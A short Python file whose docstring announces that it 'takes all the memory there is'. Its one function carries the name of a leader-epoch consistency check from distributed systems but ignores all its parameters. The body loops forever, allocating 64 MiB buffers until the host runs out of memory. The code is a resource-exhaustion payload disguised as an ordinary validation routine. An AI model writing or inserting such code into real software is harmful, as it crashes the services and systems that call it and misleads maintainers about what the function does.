"""Takes all the memory there is."""

def check_leader_epoch(request_epoch, local_epoch, is_leader, leader_only):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
